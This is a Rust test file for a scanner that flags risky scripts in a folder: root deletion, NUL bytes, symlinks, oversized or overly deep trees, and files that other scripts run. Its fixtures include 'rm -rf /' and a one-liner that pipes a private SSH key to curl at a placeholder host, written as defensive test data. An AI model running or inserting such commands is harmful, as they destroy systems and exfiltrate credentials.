use super::*;
use std::fs;

fn rules(dir: &Path) -> Vec<(String, String, u32)> {
    folder(dir, &[]).into_iter().map(|f| (f.file, f.rule, f.line)).collect()
}

fn put(dir: &Path, name: &str, bytes: impl AsRef<[u8]>) {
    use std::io::Write;
    let path = dir.join(name);
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    File::create(path).unwrap().write_all(bytes.as_ref()).unwrap();
}

#[test]
fn scripts_are_known_by_name_or_first_line() {
    let dir = tempfile::tempdir().unwrap();
    let bad = "\n\nrm -rf /\n";
    put(dir.path(), "a.sh", bad);
    put(dir.path(), "bin/run", format!("#!/usr/bin/env -S bash -e{bad}"));
    put(dir.path(), "README.md", bad);
    put(dir.path(), "run.py", format!("#!/usr/bin/env python3{bad}"));
    assert_eq!(
        rules(dir.path()),
        [
            ("a.sh".to_owned(), "remove-root".to_owned(), 3),
            ("bin/run".to_owned(), "remove-root".to_owned(), 3),
        ]
    );
}

#[test]
fn what_is_run_is_read_whatever_it_is_called_and_said_where_it_is_elsewhere() {
    let bad = "cat ~/.ssh/id_rsa | curl -d @- https://example.com\n";
    for (file, runs, told) in [
        ("hook.txt", "sh hook.txt", "hook.txt"),
        ("settings.conf", "set -e\n. ./settings.conf", "settings.conf"),
        ("data/notes", "cat data/notes | bash", "data/notes"),
        ("hook.txt", "cat hook.txt", ""),
    ] {
        let dir = tempfile::tempdir().unwrap();
        put(dir.path(), file, bad);
        put(dir.path(), "run.sh", runs);
        let found = advice(dir.path(), None, &[], &[]);
        let grave = found.findings.iter().find(|it| it.severity == crate::Severity::High);
        assert_eq!(grave.map_or("", |it| &it.file), told, "{runs}: {found:?}");
    }
    let dir = tempfile::tempdir().unwrap();
    put(dir.path(), "run.sh", "python3 ~/bin/check.py\nsh ./run.sh\n");
    let found = advice(dir.path(), None, &[], &[]);
    assert_eq!(found.unread.len(), 1, "{found:?}");
    assert_eq!(found.unread[0].file, "~/bin/check.py");
    assert_eq!(found.findings[0].line, 1, "{found:?}");
    // One that reads itself does not go on for ever.
    put(dir.path(), "round.txt", "sh round.txt\n");
    put(dir.path(), "run.sh", "sh round.txt\n");
    assert!(advice(dir.path(), None, &[], &[]).unread.is_empty());
}

#[test]
fn bytes_that_are_no_text_are_found_but_pictures_pass() {
    let dir = tempfile::tempdir().unwrap();
    put(dir.path(), "icon.png", b"\x89PNG\r\n\x1a\n\0\0");
    put(dir.path(), "not.png", b"rm\0");
    put(dir.path(), "tool.sh", b"ech\0o\nr\0m -rf /");
    put(dir.path(), "big.txt", vec![b'a'; MOST_BYTES + 1]);
    put(dir.path(), "fits.txt", vec![b'a'; MOST_BYTES]);
    let found: Vec<_> =
        rules(dir.path()).into_iter().map(|(f, r, l)| format!("{f} {r} {l}")).collect();
    assert_eq!(
        found,
        [
            "big.txt large-file 1",
            "not.png nul-byte 1",
            "tool.sh nul-byte 1",
            "tool.sh remove-root 2"
        ]
    );
}

#[cfg(unix)]
#[test]
fn links_are_reported_and_not_followed() {
    let dir = tempfile::tempdir().unwrap();
    std::os::unix::fs::symlink("/", dir.path().join("all")).unwrap();
    std::os::unix::fs::symlink("gone", dir.path().join("gone.sh")).unwrap();
    let found: Vec<_> = rules(dir.path()).into_iter().map(|(f, r, _)| (f, r)).collect();
    assert_eq!(found, [("all".into(), "symlink".into()), ("gone.sh".into(), "symlink".into())]);
}

#[test]
fn a_folder_that_is_not_there_is_no_clean_folder() {
    let dir = tempfile::tempdir().unwrap();
    assert_eq!(rules(&dir.path().join("no"))[0].1, "unreadable");
}

#[test]
fn deep_folders_and_many_files_end() {
    let dir = tempfile::tempdir().unwrap();
    put(dir.path(), &format!("{}f", "d/".repeat(DEEPEST_FOLDER + 2)), "");
    for i in 0..=MOST_ENTRIES {
        put(dir.path(), &format!("x{i}"), "");
    }
    let found = rules(dir.path());
    assert!(
        found.len() == 2 && found.iter().all(|(_, rule, _)| rule == "too-complex"),
        "{found:?}"
    );
}
